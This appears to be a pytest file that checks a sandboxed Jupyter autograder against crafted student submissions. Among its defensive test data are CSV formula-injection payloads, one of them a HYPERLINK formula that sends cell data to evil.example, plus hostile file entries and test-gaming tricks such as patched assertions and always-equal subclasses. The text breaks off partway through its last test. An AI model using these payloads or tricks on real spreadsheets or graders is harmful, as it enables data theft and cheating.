"""The grading command, proven on crafted submissions (tests/fixtures/submissions).

One class run grades every exercise-1 fixture together (as a folder from an
LMS would arrive) with short limits (5 s per cell, 1 GB of address space);
the tests below read its gradebook, feedback and side effects:

- correct → full marks; untouched → 0 for every code part, still a row;
- a part that raises, crashes its kernel, loops forever (with or without
  ignoring the interrupt) or hoards memory → 0 for that part only;
- megabytes of output → truncated in the feedback, full marks kept;
- edited, deleted and metadata-stripped test cells → graded with the
  instructor's tests; a notebook whose cell metadata is gone is still graded;
- an answer hard-coded to the visible examples → fails the hidden tests;
- a hostile submission (writes to the gradebook, another submission, the
  repository; reads the masters; connects to a listening port; kills its
  parent) changes nothing outside its scratch folder and no grade;
- malformed files (empty, not JSON, JSON but not a notebook, another
  exercise, not .ipynb; JSON nested 100,000 deep, a lone surrogate, a list
  where the assignment name should be) → a clear status, the run goes on;
- inputs checked before they are read: a symbolic link (to /proc/kmsg, to
  the instructor's master), a FIFO and a 6 GB sparse file each get their own
  row without being opened or read;
- no feedback file shows a line of the hidden tests or a grading seed.

Exercise 3 and 4 runs prove that the tests run out of the student's reach
(``trusted_tests``, unit17_grading/channel.py): monkeypatched assertions and
NumPy, IPython input transformers, patched builtins, a tracer, an atexit hook,
a replaced ``sys.modules['numpy']`` and always-equal ``str``/``int``
subclasses each earn exactly what the honest answer earns.

Separate, smaller runs prove that an interrupted run (Ctrl-C, or a crash of
the grader by SIGKILL) loses no finished grade and resumes, that regrading
is byte-identical, that manual grades merge (and bad sheets are refused),
that a Keras exercise (4) is graded with its hidden tests, and that without
root the grader refuses to run student code rather than run it unsandboxed.
"""
from __future__ import annotations

import csv
import hashlib
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path
from types import SimpleNamespace

import nbformat
import pytest

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from unit17_grading import gradebook as book  # noqa: E402
from unit17_grading.sandbox import SandboxUnavailable, require_privileges  # noqa: E402
from unit17_grading.submissions import rebuild  # noqa: E402

FIXTURES = ROOT / "tests" / "fixtures" / "submissions"
EX1, EX2, EX4 = "ex1-bidirectional-use-cases", "ex2-attention-bottleneck", "ex4-simple-attention-layer"
EX3 = "ex3-self-attention-paths"
PARTS3 = ["ex3a_test", "ex3b_test", "ex3c_test", "ex3d_test"]
PARTS4 = ["ex4a_test", "ex4b_test", "ex4c_test", "ex4d_test"]
PARTS1 = ["ex1a_test", "ex1b_test", "ex1c_test"]


def _sandbox_ok() -> bool:
    try:
        require_privileges()
    except SandboxUnavailable:
        return False
    return True


needs_sandbox = pytest.mark.skipif(not _sandbox_ok(), reason="the grading sandbox needs root and namespaces")


def grade_command(assignment: str, submissions: Path, out: Path, *extra: str) -> list[str]:
    return [sys.executable, "-m", "unit17_grading", "grade", assignment, str(submissions), "--out", str(out),
            "--cell-timeout", "5", "--memory-mb", "1024", "--submission-timeout", "300", "--jobs", "1", *extra]


def run_grade(*args: str, **kwargs) -> subprocess.CompletedProcess:
    return subprocess.run(grade_command(*args), cwd=ROOT, capture_output=True, text=True, timeout=1800, **kwargs)


def read_gradebook(out: Path) -> dict[str, dict]:
    with open(out / "gradebook.csv", newline="", encoding="utf-8") as handle:
        return {row["student"]: row for row in csv.DictReader(handle)}


def scores(row: dict, parts=PARTS1) -> list[float]:
    return [float(row[part]) for part in parts]


def copy_fixtures(assignment: str, target: Path, names: list[str] | None = None) -> Path:
    target.mkdir(parents=True, exist_ok=True)
    for path in sorted((FIXTURES / assignment).glob("*.ipynb")):
        if names is None or path.stem in names:
            shutil.copy(path, target / path.name)
    return target


def autograded_outputs(out: Path, student: str, assignment: str = EX1) -> dict[str, list[dict]]:
    path = out / ".work" / "students" / student / "autograded" / student / assignment / f"{assignment}.ipynb"
    notebook = nbformat.read(path, as_version=4)
    return {c.metadata.get("nbgrader", {}).get("grade_id", f"cell{i}"): c.get("outputs", [])
            for i, c in enumerate(notebook.cells)}


def _digest(paths) -> dict[str, str]:
    """Digests of the regular files among ``paths`` (links, FIFOs and huge files are not opened)."""
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in paths
            if not p.is_symlink() and p.is_file() and p.stat().st_size < 50_000_000}


def _add_hostile_entries(subs: Path) -> None:
    """Entries that must be judged before they are read: each blocks, floods or leaks when opened."""
    (subs / "kmsg_link.ipynb").symlink_to("/proc/kmsg")
    (subs / "master_link.ipynb").symlink_to(ROOT / "exercises" / "source" / EX1 / f"{EX1}.ipynb")
    os.mkfifo(subs / "fifo.ipynb")
    with open(subs / "huge_sparse.ipynb", "wb") as handle:
        handle.truncate(6 * 2**30)


def hidden_texts(assignment: str) -> list[str]:
    """Lines of the master's hidden tests (and their seeds) that students never see."""
    import re

    master = nbformat.read(ROOT / "exercises" / "source" / assignment / f"{assignment}.ipynb", as_version=4)
    student = (ROOT / "book" / "exercises" / f"{assignment}.ipynb").read_text(encoding="utf-8")
    texts = {"HIDDEN TESTS"}
    for cell in master.cells:
        for region in re.findall(r"### BEGIN HIDDEN TESTS\n(.*?)### END HIDDEN TESTS", cell.source, re.S):
            texts |= set(re.findall(r"default_rng\(([\d_]+)\)", region))
            texts |= {" ".join(line.split()) for line in region.splitlines() if len(line.strip()) > 12}
    return sorted(t for t in texts if json.dumps(t)[1:-1] not in student)


def assert_no_hidden_text(feedback_dir: Path, assignment: str) -> int:
    import html
    import re

    secrets = hidden_texts(assignment)
    assert secrets
    files = sorted(feedback_dir.glob("*.html"))
    for path in files:
        text = html.unescape(re.sub(r"<[^>]+>", "", path.read_text(encoding="utf-8")))
        text = " ".join(text.split())
        leaked = [secret for secret in secrets if secret in text]
        assert leaked == [], (path.name, leaked)
    return len(files)


class _Listener:
    """A TCP server on the host's loopback that records every connection."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.connections: list[tuple] = []
        self._stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self._stop.is_set():
            try:
                conn, address = self.server.accept()
            except OSError:
                continue
            self.connections.append(address)
            conn.close()

    def close(self):
        self._stop.set()
        self.thread.join()
        self.server.close()


# -- the class run ----------------------------------------------------------------

@pytest.fixture(scope="module")
def ex1_class(tmp_path_factory):
    if not _sandbox_ok():
        pytest.skip("the grading sandbox needs root and namespaces")
    base = tmp_path_factory.mktemp("class")
    subs, out = base / "submissions", base / "grading"
    copy_fixtures(EX1, subs)
    (subs / "memory_in_children.ipynb").unlink()  # graded on its own, with more time per cell
    (subs / "readme.txt").write_text("instructions from the LMS, not a submission\n")
    _add_hostile_entries(subs)
    listener = _Listener()
    hostile = (subs / "hostile.ipynb").read_text(encoding="utf-8")
    hostile = (hostile.replace("@@OUT@@", str(out)).replace("@@SUBMISSIONS@@", str(subs))
               .replace("@@PORT@@", str(listener.port)))
    (subs / "hostile.ipynb").write_text(hostile, encoding="utf-8")
    protected = [ROOT / "README.md", ROOT / "labsupport" / "__init__.py",
                 ROOT / "exercises" / "source" / EX1 / f"{EX1}.ipynb"]
    before_repo = _digest(protected)
    before_subs = _digest(sorted(subs.iterdir()))
    started = time.monotonic()
    result = run_grade(EX1, subs, out)
    elapsed = time.monotonic() - started
    listener.close()
    print(result.stdout)
    return SimpleNamespace(result=result, elapsed=elapsed, out=out, subs=subs, rows=read_gradebook(out),
                           before_repo=before_repo, after_repo=_digest(protected),
                           before_subs=before_subs, after_subs=_digest(sorted(subs.iterdir())),
                           connections=listener.connections, files=sorted(subs.iterdir()))


@pytest.mark.slow
def test_class_run_grades_every_file_and_finishes(ex1_class):
    assert ex1_class.result.returncode == 0, ex1_class.result.stderr[-3000:]
    assert set(ex1_class.rows) == {p.stem if p.suffix == ".ipynb" else p.name for p in ex1_class.files}
    print(f"class run: {len(ex1_class.rows)} files in {ex1_class.elapsed:.0f} s")


@pytest.mark.slow
def test_correct_submission_gets_full_marks(ex1_class):
    row = ex1_class.rows["correct"]
    assert scores(row) == [2, 2, 2] and row["total"] == "6" and row["status"] == "graded"


@pytest.mark.slow
def test_untouched_student_version_gets_zero_and_a_row(ex1_class):
    row = ex1_class.rows["untouched"]
    assert scores(row) == [0, 0, 0] and row["total"] == "0" and row["status"] == "graded"


@pytest.mark.slow
@pytest.mark.parametrize("student, error", [
    ("raises", "KeyError"), ("crash", "DeadKernelError"), ("infinite_loop", "KeyboardInterrupt"),
    ("uninterruptible_loop", "CellTimeoutError"), ("memory_hog", "MemoryError")])
def test_failing_part_loses_only_its_points(ex1_class, student, error):
    row = ex1_class.rows[student]
    assert scores(row) == [2, 0, 2], row
    names = [o.get("ename") for o in autograded_outputs(ex1_class.out, student)["ex1b_answer"]]
    assert error in names, names


@pytest.mark.slow
def test_output_flood_is_truncated_in_feedback(ex1_class):
    row = ex1_class.rows["output_flood"]
    assert scores(row) == [2, 2, 2]
    feedback = ex1_class.out / "feedback" / "output_flood.html"
    assert feedback.stat().st_size < 1_000_000  # the cell printed about 2.6 MB
    assert "已截斷" in feedback.read_text(encoding="utf-8")


@pytest.mark.slow
def test_edited_and_deleted_tests_are_graded_with_the_instructors_tests(ex1_class):
    # 1a answered wrongly but its test replaced by print(); 1b right but its test deleted;
    # 1c wrong and its test rewritten to `assert True` without metadata.
    row = ex1_class.rows["edited_tests"]
    assert scores(row) == [0, 2, 0]
    assert "graded with the originals" in row["detail"]


@pytest.mark.slow
def test_notebook_without_cell_metadata_is_still_graded(ex1_class):
    row = ex1_class.rows["metadata_stripped"]
    assert scores(row) == [2, 2, 2] and "metadata missing" in row["detail"]


@pytest.mark.slow
def test_hard_coded_answer_passes_visible_but_fails_hidden_tests(ex1_class, tmp_path):
    from nbclient import NotebookClient

    notebook = nbformat.read(FIXTURES / EX1 / "hardcoded.ipynb", as_version=4)
    NotebookClient(notebook, timeout=60, allow_errors=True, kernel_name="python3").execute()
    visible = {c.metadata["nbgrader"]["grade_id"]: c.outputs for c in notebook.cells
               if c.metadata.get("nbgrader", {}).get("grade_id") == "ex1c_test"}
    assert not any(o.output_type == "error" for o in visible["ex1c_test"]), "should pass the visible test"
    assert scores(ex1_class.rows["hardcoded"]) == [2, 2, 0]


@pytest.mark.slow
def test_hostile_submission_changes_nothing_outside_its_scratch_folder(ex1_class):
    assert ex1_class.after_repo == ex1_class.before_repo
    assert ex1_class.after_subs == ex1_class.before_subs
    assert ex1_class.connections == []
    assert not list(ROOT.glob("planted_by_student.txt")) and not list(ROOT.glob("labsupport/planted_by_student.txt"))
    assert not Path("/tmp/planted_by_student.txt").exists()
    assert "hostile,999" not in (ex1_class.out / "gradebook.csv").read_text(encoding="utf-8")
    assert json.loads((ex1_class.out / "results" / "correct.json").read_text())["student"] == "correct"
    stream = "".join(o.get("text", "") for o in autograded_outputs(ex1_class.out, "hostile")["ex1a_answer"])
    attempts = json.loads(stream[stream.index("{"):stream.rindex("}") + 1])
    assert not any(value in ("written", "connected") for key, value in attempts.items()
                   if not key.startswith("plant in /tmp")), attempts
    assert attempts["read master notebook"] in ("FileNotFoundError", "PermissionError")
    assert attempts["read gradebook"] in ("FileNotFoundError", "PermissionError")
    assert all(not found for key, found in attempts.items() if key.startswith("found ") and "json" not in key)
    # It answered everything correctly and killing its parent achieved nothing.
    assert scores(ex1_class.rows["hostile"]) == [2, 2, 2]
    assert {"os.kill", "socket"} <= set(ex1_class.rows["hostile"]["flags"].split())


@pytest.mark.slow
@pytest.mark.parametrize("student, status, words", [
    ("empty", "invalid-file", "empty file"),
    ("not_json", "invalid-file", "not UTF-8"),
    ("not_a_notebook", "not-a-notebook", "JSON without"),
    ("wrong_exercise", "wrong-exercise", "ex3-self-attention-paths"),
    ("readme.txt", "invalid-file", "not an .ipynb file"),
    ("deep_json", "invalid-file", "nested too deeply"),
    ("kmsg_link", "invalid-file", "symbolic link"),
    ("master_link", "invalid-file", "symbolic link"),
    ("fifo", "invalid-file", "FIFO"),
    ("huge_sparse", "invalid-file", "the limit is 20 MB"),
])
def test_malformed_files_get_a_clear_status(ex1_class, student, status, words):
    row = ex1_class.rows[student]
    assert row["status"] == status and words in row["detail"] and row["total"] == "0"


@pytest.mark.slow
@pytest.mark.parametrize("student, detail", [("lone_surrogate", "lone surrogates"),
                                             ("list_assignment_tag", "metadata missing")])
def test_odd_but_readable_notebooks_are_graded(ex1_class, student, detail):
    row = ex1_class.rows[student]
    assert row["status"] == "graded" and scores(row) == [2, 2, 2] and detail in row["detail"], row


@pytest.mark.slow
def test_feedback_shows_results_but_not_hidden_tests(ex1_class):
    text = (ex1_class.out / "feedback" / "correct.html").read_text(encoding="utf-8")
    assert "1c：公開測試通過" in text
    assert "_grading_rng" not in text and "HIDDEN TESTS" not in text
    # A failing hidden test says so, and nothing else; no feedback shows a hidden line or seed.
    hardcoded = (ex1_class.out / "feedback" / "hardcoded.html").read_text(encoding="utf-8")
    assert "hidden test failed" in hardcoded
    assert assert_no_hidden_text(ex1_class.out / "feedback", EX1) >= 10


# -- attacks on the tests: exactly the honest points -------------------------------------

@pytest.fixture(scope="module")
def ex3_class(tmp_path_factory):
    if not _sandbox_ok():
        pytest.skip("the grading sandbox needs root and namespaces")
    base = tmp_path_factory.mktemp("ex3")
    subs, out = copy_fixtures(EX3, base / "submissions"), base / "grading"
    result = run_grade(EX3, subs, out)
    print(result.stdout)
    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
    return SimpleNamespace(out=out, rows=read_gradebook(out))


@pytest.mark.slow
@pytest.mark.parametrize("student, expected", [
    ("correct", [1, 1, 3, 1]),
    ("untouched", [0, 0, 0, 0]),
    # blank answers with an attack: 0, as blank
    ("input_transformer", [0, 0, 0, 0]),
    ("patched_builtins", [0, 0, 0, 0]),
    ("settrace", [0, 0, 0, 0]),
    ("atexit_and_sys_modules", [0, 0, 0, 0]),
    # 3b a str subclass equal to everything, 3d an int subclass: as wrong as they are
    ("always_equal", [1, 0, 3, 0]),
    # wrong 3c with np.testing / np.allclose patched: 3c still 0
    ("patched_numpy", [1, 1, 0, 1]),
])
def test_attacks_on_the_tests_earn_exactly_the_honest_points(ex3_class, student, expected):
    row = ex3_class.rows[student]
    assert row["status"] == "graded" and scores(row, PARTS3) == expected, row


@pytest.mark.slow
def test_ex3_feedback_has_no_hidden_test(ex3_class):
    assert assert_no_hidden_text(ex3_class.out / "feedback", EX3) == 8


# -- interrupted runs, resuming, idempotence -----------------------------------------

def _interrupt_after_first_result(subs: Path, out: Path, how: int, *extra: str) -> int:
    before = {p: p.stat().st_mtime_ns for p in (out / "results").glob("*.json")}
    process = subprocess.Popen(grade_command(EX1, subs, out, *extra), cwd=ROOT, stdout=subprocess.PIPE,
                               stderr=subprocess.STDOUT, text=True)
    deadline = time.monotonic() + 600
    while {p: p.stat().st_mtime_ns for p in (out / "results").glob("*.json")} == before:
        assert process.poll() is None, process.stdout.read()
        assert time.monotonic() < deadline
        time.sleep(0.1)
    process.send_signal(how)
    process.wait(timeout=120)
    return process.returncode


def _workers_of(out: Path) -> list[str]:
    """Command lines of grading workers (or their kernels) still running for ``out``."""
    found = []
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            args = cmdline.read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if ("unit17_grading.worker" in args or "sandbox_init" in args) and str(out) in args:
            found.append(args)
    return found


@needs_sandbox
@pytest.mark.slow
def test_interrupted_run_keeps_finished_grades_resumes_and_regrades_identically(tmp_path):
    subs = copy_fixtures(EX1, tmp_path / "submissions", ["correct", "raises", "not_json"])

    # Ctrl-C after the first student: that result stays, the run says how to go on.
    out = tmp_path / "ctrl-c"
    assert _interrupt_after_first_result(subs, out, signal.SIGINT) == 130
    finished = {p.stem for p in (out / "results").glob("*.json")}
    assert finished and all(book.read_json(out / "results" / f"{s}.json") for s in finished)
    assert set(read_gradebook(out)) == finished
    rerun = run_grade(EX1, subs, out)
    assert rerun.returncode == 0 and "unchanged since the last run, kept" in rerun.stdout
    reference = (out / "gradebook.csv").read_bytes()
    assert set(read_gradebook(out)) == {"correct", "raises", "not_json"}

    # An interrupted --force regrade keeps everyone in the gradebook (earlier results on disk).
    assert _interrupt_after_first_result(subs, out, signal.SIGINT, "--force") == 130
    assert set(read_gradebook(out)) == {"correct", "raises", "not_json"}

    # Regrading everything gives the same bytes; so does a run that skips everyone.
    assert run_grade(EX1, subs, out, "--force").returncode == 0
    assert (out / "gradebook.csv").read_bytes() == reference
    again = run_grade(EX1, subs, out)
    assert again.stdout.count("kept") == 3 and (out / "gradebook.csv").read_bytes() == reference

    # The grader killed outright (power cut, OOM killer): no grade lost, no worker left behind.
    out = tmp_path / "killed"
    _interrupt_after_first_result(subs, out, signal.SIGKILL)
    time.sleep(1)
    assert _workers_of(out) == []
    assert all(book.read_json(p) for p in (out / "results").glob("*.json"))
    assert run_grade(EX1, subs, out).returncode == 0
    assert (out / "gradebook.csv").read_bytes() == reference


@needs_sandbox
@pytest.mark.slow
def test_ctrl_c_with_parallel_jobs_stops_every_worker_and_resumes(tmp_path):
    subs = copy_fixtures(EX1, tmp_path / "submissions", ["correct", "not_json", "raises", "untouched"])
    out = tmp_path / "grading"
    # not_json is done at once, while correct is still being graded by the other job
    assert _interrupt_after_first_result(subs, out, signal.SIGINT, "--jobs", "2") == 130
    time.sleep(1)
    assert _workers_of(out) == []
    finished = {p.stem for p in (out / "results").glob("*.json")}
    assert finished and all(book.read_json(out / "results" / f"{s}.json") for s in finished)
    assert set(read_gradebook(out)) == finished
    rerun = run_grade(EX1, subs, out, "--jobs", "2")
    assert rerun.returncode == 0, rerun.stdout[-2000:]
    rows = read_gradebook(out)
    assert set(rows) == {"correct", "not_json", "raises", "untouched"}
    assert [rows[s]["total"] for s in ("correct", "raises", "untouched")] == ["6", "4", "0"]


@needs_sandbox
@pytest.mark.slow
def test_parallel_and_sharded_runs_give_the_same_gradebook(tmp_path):
    subs = copy_fixtures(EX1, tmp_path / "submissions", ["correct", "raises", "not_json"])
    one = tmp_path / "one"
    assert run_grade(EX1, subs, one, "--jobs", "1").returncode == 0
    reference = (one / "gradebook.csv").read_bytes()
    both = tmp_path / "both"
    assert run_grade(EX1, subs, both, "--jobs", "2").returncode == 0
    assert (both / "gradebook.csv").read_bytes() == reference
    shards = [tmp_path / "shard1", tmp_path / "shard2"]
    for k, shard in enumerate(shards, start=1):
        assert run_grade(EX1, subs, shard, "--jobs", "1", "--shard", f"{k}/2").returncode == 0
    assert set(read_gradebook(shards[0])) | set(read_gradebook(shards[1])) == {"correct", "raises", "not_json"}
    assert not set(read_gradebook(shards[0])) & set(read_gradebook(shards[1]))
    merged = tmp_path / "merged"
    result = subprocess.run([sys.executable, "-m", "unit17_grading", "merge-shards", EX1, *map(str, shards),
                             "--out", str(merged)], cwd=ROOT, capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    assert (merged / "gradebook.csv").read_bytes() == reference
    assert sorted(p.name for p in (merged / "feedback").iterdir()) == sorted(p.name for p in (one / "feedback").iterdir())


@needs_sandbox
@pytest.mark.slow
def test_memory_counts_for_all_processes_of_a_submission(tmp_path):
    # Three children of 450 MB each pass the 1 GB per-process limit; the submission's control
    # group (1 GB for all its processes) stops one of them, so 1b fails.
    from unit17_grading import cgroups

    group = cgroups.create(2**30, 64, "probe")
    if group is None:
        pytest.skip("no writable memory/pids control groups here: only the rlimits apply")
    group.destroy()
    subs = copy_fixtures(EX1, tmp_path / "submissions", ["memory_in_children"])
    out = tmp_path / "grading"
    assert run_grade(EX1, subs, out, "--cell-timeout", "120").returncode == 0
    row = read_gradebook(out)["memory_in_children"]
    assert scores(row) == [2, 0, 2], row
    outputs = autograded_outputs(out, "memory_in_children")["ex1b_answer"]
    assert any(o.get("ename") == "AssertionError" and "-9" in o.get("evalue", "") for o in outputs), outputs


# -- manual grading -------------------------------------------------------------------

@needs_sandbox
@pytest.mark.slow
def test_manual_parts_go_to_a_sheet_and_merge_back(tmp_path):
    subs = copy_fixtures(EX2, tmp_path / "submissions")
    out = tmp_path / "grading"
    assert run_grade(EX2, subs, out).returncode == 0
    rows = read_gradebook(out)
    assert rows["answered"]["status"] == "needs-manual" and rows["answered"]["ex2_answer"] == ""
    assert rows["untouched"]["status"] == "graded" and rows["untouched"]["total"] == "0"
    sheet = book.read_sheet(out / "manual.csv")
    assert [(r["student"], r["part"], r["max_points"]) for r in sheet] == [("answered", "ex2_answer", "6")]
    assert "固定長度" in sheet[0]["answer"] and "評分規準" in sheet[0]["rubric"]

    def write_sheet(points: str, student: str = "answered") -> None:
        sheet[0].update(points=points, comment="瓶頸與計算都說清楚了，缺化工例子。", student=student)
        with open(out / "manual.csv", "w", newline="", encoding="utf-8-sig") as handle:
            writer = csv.DictWriter(handle, fieldnames=book.MANUAL_FIELDS)
            writer.writeheader()
            writer.writerows(sheet)

    merge = [sys.executable, "-m", "unit17_grading", "merge", EX2, "--out", str(out)]
    before = (out / "gradebook.csv").read_bytes()
    for bad, student in (("9", "answered"), ("很好", "answered"), ("5", "nobody")):
        write_sheet(bad, student)
        refused = subprocess.run(merge, cwd=ROOT, capture_output=True, text=True)
        assert refused.returncode == 2 and "not merged" in refused.stderr
        assert (out / "gradebook.csv").read_bytes() == before
    write_sheet("5")
    merged = subprocess.run(merge, cwd=ROOT, capture_output=True, text=True)
    assert merged.returncode == 0, merged.stderr
    row = read_gradebook(out)["answered"]
    assert row["ex2_answer"] == "5" and row["total"] == "5" and row["status"] == "graded"
    assert "缺化工例子" in (out / "feedback" / "answered.html").read_text(encoding="utf-8")
    # A later grading run keeps the merged grade.
    assert run_grade(EX2, subs, out).returncode == 0
    assert read_gradebook(out)["answered"]["total"] == "5"


# -- a Keras exercise ------------------------------------------------------------------

@needs_sandbox
@pytest.mark.slow
def test_keras_exercise_is_graded_with_hidden_tests(tmp_path):
    subs = copy_fixtures(EX4, tmp_path / "submissions")
    out = tmp_path / "grading"
    result = subprocess.run(grade_command(EX4, subs, out, "--cell-timeout", "120", "--memory-mb", "6144",
                                          "--submission-timeout", "1200", "--jobs", "2"),
                            cwd=ROOT, capture_output=True, text=True, timeout=1800)
    assert result.returncode == 0, result.stdout + result.stderr
    rows = read_gradebook(out)
    assert scores(rows["correct"], PARTS4) == [2, 4, 2, 2]
    assert scores(rows["mask_raises"], PARTS4) == [2, 4, 0, 2]
    # Without tanh the hidden value tests fail (4 of 10), whatever the kernel patches:
    # np.testing / np.allclose, or np.tanh and keras.ops.tanh (the hidden reference's own tanh).
    for student in ("no_tanh", "no_tanh_patched_asserts", "no_tanh_patched_tanh"):
        assert scores(rows[student], PARTS4) == [2, 0, 0, 2], (student, rows[student])
    assert_no_hidden_text(out / "feedback", EX4)


# -- refusing to run unsandboxed --------------------------------------------------------

def test_without_root_the_grader_refuses_instead_of_running_unsandboxed(tmp_path, monkeypatch, capsys):
    from unit17_grading.__main__ import main

    monkeypatch.setattr(os, "geteuid", lambda: 1000)
    subs = copy_fixtures(EX1, tmp_path / "submissions", ["correct"])
    out = tmp_path / "grading"
    assert main(["grade", EX1, str(subs), "--out", str(out)]) == 3
    message = capsys.readouterr().err
    assert "needs root" in message and "--no-sandbox" in message
    assert not (out / "results").exists() or not list((out / "results").iterdir())


def test_check_sandbox_command_reports_the_same():
    result = subprocess.run([sys.executable, "-m", "unit17_grading", "check-sandbox"], cwd=ROOT,
                            capture_output=True, text=True)
    assert result.returncode == (0 if _sandbox_ok() else 3)


# -- pure parts --------------------------------------------------------------------------

def test_crafted_submissions_are_up_to_date():
    sys.path.insert(0, str(FIXTURES))
    import make_submissions

    stale = [str(p.relative_to(ROOT)) for p, data in make_submissions.render().items()
             if not p.exists() or p.read_bytes() != data]
    assert stale == [], "run python tests/fixtures/submissions/make_submissions.py"


def _skeleton():
    return nbformat.read(ROOT / "book" / "exercises" / f"{EX1}.ipynb", as_version=4)


def test_rebuild_keeps_answers_and_extra_cells_and_restores_instructor_cells():
    skeleton = _skeleton()
    student = nbformat.read(FIXTURES / EX1 / "edited_tests.ipynb", as_version=4)
    helper = nbformat.v4.new_code_cell("def helper():\n    return 1\n")
    student.cells.insert(3, helper)
    rebuilt, report = rebuild(student, skeleton)
    ids = [c.metadata.get("nbgrader", {}).get("grade_id") for c in rebuilt.cells]
    skeleton_ids = [c.metadata["nbgrader"]["grade_id"] for c in skeleton.cells]
    assert [i for i in ids if i] == skeleton_ids  # every instructor cell, in order
    by_id = {c.metadata.get("nbgrader", {}).get("grade_id"): c for c in rebuilt.cells}
    skeleton_by_id = {c.metadata["nbgrader"]["grade_id"]: c for c in skeleton.cells}
    for test in PARTS1:
        assert by_id[test].source == skeleton_by_id[test].source
    assert by_id["ex1a_answer"].source.strip() == 'unsuitable_case = "A"'
    assert helper.source in [c.source for c in rebuilt.cells]
    assert rebuilt.cells[ids.index("ex1a_question") + 1].source == helper.source  # where the student put it
    assert set(report.instructor_cells_restored) == set(PARTS1)


def test_sheet_validation_lists_every_problem():
    from unit17_grading import assignments as catalogue

    assignment = catalogue.get(EX2)
    rows = [{"student": "a", "part": "ex2_answer", "points": "7"},
            {"student": "b", "part": "ex2_answer", "points": "x"},
            {"student": "zz", "part": "ex2_answer", "points": "1"},
            {"student": "a", "part": "nope", "points": "1"},
            {"student": "b", "part": "ex2_answer", "points": ""}]
    with pytest.raises(book.SheetError) as error:
        book.parse_sheet(assignment, rows, {"a", "b"})
    message = str(error.value)
    assert "line 2" in message and "line 3" in message and "line 4" in message and "line 5" in message
    assert book.parse_sheet(assignment, [{"student": "a", "part": "ex2_answer", "points": "4.5",
                                          "comment": " ok "}], {"a"}) == {("a", "ex2_answer"): (4.5, "ok")}


def _local_channel(student_code: str):
    """A channel to a namespace standing in for the student's kernel (same request handler)."""
    from unit17_grading import channel

    kernel: dict = {}
    exec(channel.KERNEL_SERVER, kernel)
    exec(student_code, kernel)
    return channel.Channel(lambda request: kernel["_u17_rpc"](request)), kernel


def test_channel_passes_plain_data_and_nothing_else():
    import numpy as np

    from unit17_grading import channel

    ch, _ = _local_channel(
        "import numpy as np\n"
        "class Whatever(str):\n    __eq__ = lambda self, other: True\n    __hash__ = str.__hash__\n"
        "class Anything(int):\n    __eq__ = lambda self, other: True\n    __hash__ = int.__hash__\n"
        "reason, count, flag, table = Whatever('A'), Anything(3), True, {'A': True, 'B': (1, 2.5, None)}\n"
        "def double(x):\n    return x * 2\n"
        "def fails(x):\n    raise ValueError(f'bad {x}')\n")
    assert ch.lookup("flag") is True
    assert ch.lookup("table") == {"A": True, "B": (1, 2.5, None)} and type(ch.lookup("table")["B"]) is tuple
    for name in ("reason", "count"):  # subclasses stay behind: an opaque handle equal to nothing else
        value = ch.lookup(name)
        assert type(value) is channel.Remote and value != "A" and value != 3 and value not in {"A", "B", 3}
    result = ch.lookup("double")(np.arange(3, dtype="float32"))
    assert type(result) is np.ndarray and result.dtype == np.float32 and result.tolist() == [0, 2, 4]
    assert ch.lookup("double")(21) == 42
    with pytest.raises(ValueError, match="bad 1"):
        ch.lookup("fails")(1)
    with pytest.raises(NameError):
        ch.lookup("not_defined")
    with pytest.raises(channel.ChannelError):
        channel.Channel(lambda request: '{"value": {"t": "ndarray", "v": "gARLAA=="}}').lookup("x")
    with pytest.raises(channel.ChannelError):  # a pickle is never loaded
        channel.Channel(lambda request: json.dumps({"value": {"t": "pickle", "v": ""}})).lookup("x")


def test_trusted_tests_report_hidden_failures_without_details():
    # (Here the "kernel" shares this process; the patching attacks are graded for real above.)
    from unit17_grading import channel

    ch, kernel = _local_channel("import numpy as np\n"
                                "def wrong(x):\n    return np.zeros(3)\n")
    tests = channel.TrustedTests(ch)
    tests.run_setup("import numpy as np\n")
    source = ("assert wrong(1).shape == (3,)\n"
              "### BEGIN HIDDEN TESTS\n"
              "_seed = np.random.default_rng(99_999)\n"
              "np.testing.assert_allclose(wrong(1), [1, 2, 3])\n"
              "### END HIDDEN TESTS\n"
              "print('visible part passed')\n")
    outputs = tests.run_test(source, "t")
    assert [o["output_type"] for o in outputs] == ["error"]
    assert outputs[0]["evalue"] == channel.HIDDEN_MESSAGE and "99_999" not in json.dumps(outputs)
    outputs = tests.run_test("assert wrong(1).shape == (4,), 'shape (4,) expected'\n", "t")
    assert outputs[-1]["ename"] == "AssertionError" and "shape (4,) expected" in outputs[-1]["evalue"]
    assert tests.run_test("print(wrong(1).sum())\n", "t") == [
        {"output_type": "stream", "name": "stdout", "text": "0.0\n"}]


def test_formulas_are_neutralised_in_both_csv_files():
    from unit17_grading import assignments as catalogue

    assignment = catalogue.get(EX2)
    result = {"student": "=cmd|' /C calc'!A0", "status": "needs-manual", "detail": "+1", "flags": [],
              "parts": {"ex2_answer": {"kind": "manual", "max": 6.0, "score": None,
                                       "answer": '=HYPERLINK("http://evil.example/?"&A1, "點我")'}}}
    sheet = book.manual_sheet_csv(assignment, [result], [])
    gradebook = book.gradebook_csv(assignment, [result])
    for text in (sheet, gradebook):
        rows = list(csv.reader(text.lstrip("\ufeff").splitlines()))
        assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row), rows
    assert "'=HYPERLINK(" in sheet and "'=cmd|" in gradebook
    # Read back by the grader: the original text, so a kept entry still matches its answer.
    path = ROOT / "tests" / ".sheet-roundtrip.csv"
    try:
        path.write_text(sheet, encoding="utf-8")
        row = book.read_sheet(path)[0]
    finally:
        path.unlink()
    assert row["student"] == result["student"] and row["answer"] == result["parts"]["ex2_answer"]["answer"]


def test_notebook_output_budget_covers_all_cells(monkeypatch):
    from nbclient import NotebookClient

    from unit17_grading.execute import RobustExecute

    monkeypatch.setattr(NotebookClient, "output", lambda self, outs, msg, display_id, index: outs.append("kept"))
